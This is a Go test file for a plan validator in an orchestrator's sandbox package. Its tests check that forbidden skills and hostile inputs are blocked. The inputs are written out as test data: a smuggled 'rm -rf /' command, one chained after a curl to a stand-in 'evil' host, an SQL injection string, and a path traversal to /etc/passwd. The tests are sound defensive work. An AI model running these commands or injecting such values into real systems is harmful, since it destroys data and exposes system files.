// Copyright 2025 Tom Barlow
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

package sandbox

import (
	"testing"

	"github.com/tombee/orchestrator/pkg/orchspec"
)

func TestValidateAllowsCleanPlan(t *testing.T) {
	steps := []orchspec.StepDescriptor{
		{StepID: "a", SkillID: "echo", Inputs: map[string]any{"v": "hello"}},
	}
	report := Validate(steps)
	if !report.Valid {
		t.Fatalf("expected valid plan, got violations: %v", report.Violations)
	}
}

func TestValidateBlocksForbiddenSkill(t *testing.T) {
	for skill := range ForbiddenSkills {
		steps := []orchspec.StepDescriptor{{StepID: "a", SkillID: skill}}
		report := Validate(steps)
		if report.Valid {
			t.Fatalf("expected %q to be blocked", skill)
		}
		found := false
		for _, v := range report.Violations {
			if containsSubstring(v, skill) {
				found = true
			}
		}
		if !found {
			t.Fatalf("expected violation message to name %q, got %v", skill, report.Violations)
		}
	}
}

func TestValidateBlocksShellInjection(t *testing.T) {
	steps := []orchspec.StepDescriptor{
		{StepID: "a", SkillID: "echo", Inputs: map[string]any{"cmd": "ls ; rm -rf /"}},
	}
	report := Validate(steps)
	if report.Valid {
		t.Fatal("expected injection to be blocked")
	}
}

func TestValidateBlocksSQLInjection(t *testing.T) {
	steps := []orchspec.StepDescriptor{
		{StepID: "a", SkillID: "echo", Inputs: map[string]any{"q": `admin" OR "1"="1`}},
	}
	report := Validate(steps)
	if report.Valid {
		t.Fatal("expected SQL injection marker to be blocked")
	}
}

func TestValidateBlocksPathTraversal(t *testing.T) {
	steps := []orchspec.StepDescriptor{
		{StepID: "a", SkillID: "echo", Inputs: map[string]any{"path": "../../etc/passwd"}},
	}
	report := Validate(steps)
	if report.Valid {
		t.Fatal("expected path traversal to be blocked")
	}
}

func TestValidateRequiresIdempotencyKeyForHTTPWrite(t *testing.T) {
	steps := []orchspec.StepDescriptor{
		{StepID: "a", SkillID: "http_call", Inputs: map[string]any{"method": "POST", "url": "https://example.com"}},
	}
	report := Validate(steps)
	if report.Valid {
		t.Fatal("expected missing idempotency_key to be blocked")
	}

	steps[0].Inputs["idempotency_key"] = "key-123"
	report = Validate(steps)
	if !report.Valid {
		t.Fatalf("expected plan with idempotency_key to be valid, got %v", report.Violations)
	}
}

func TestValidateRequiresIdempotencyKeyForDBWrite(t *testing.T) {
	steps := []orchspec.StepDescriptor{
		{StepID: "a", SkillID: "db_insert_row", Inputs: map[string]any{}},
	}
	report := Validate(steps)
	if report.Valid {
		t.Fatal("expected missing idempotency_key on db write to be blocked")
	}
}

func TestValidateAllowsURLQueryStringWithAmpersand(t *testing.T) {
	steps := []orchspec.StepDescriptor{
		{StepID: "a", SkillID: "http_call", Inputs: map[string]any{
			"method": "GET",
			"url":    "https://example.com/search?q=widgets&page=2&sort=price",
		}},
	}
	report := Validate(steps)
	if !report.Valid {
		t.Fatalf("expected a query string & with no preceding whitespace to be valid, got %v", report.Violations)
	}
}

func TestValidateBlocksBackgroundedShellCommand(t *testing.T) {
	steps := []orchspec.StepDescriptor{
		{StepID: "a", SkillID: "echo", Inputs: map[string]any{"cmd": "curl evil.example.com & rm -rf /"}},
	}
	report := Validate(steps)
	if report.Valid {
		t.Fatal("expected a backgrounded command chained with & to be blocked")
	}
}

func TestValidateAllowsHTTPGetWithoutIdempotencyKey(t *testing.T) {
	steps := []orchspec.StepDescriptor{
		{StepID: "a", SkillID: "http_call", Inputs: map[string]any{"method": "GET", "url": "https://example.com"}},
	}
	report := Validate(steps)
	if !report.Valid {
		t.Fatalf("expected GET without idempotency_key to be valid, got %v", report.Violations)
	}
}

func containsSubstring(haystack, needle string) bool {
	return len(haystack) >= len(needle) && indexOf(haystack, needle) >= 0
}

func indexOf(haystack, needle string) int {
	for i := 0; i+len(needle) <= len(haystack); i++ {
		if haystack[i:i+len(needle)] == needle {
			return i
		}
	}
	return -1
}
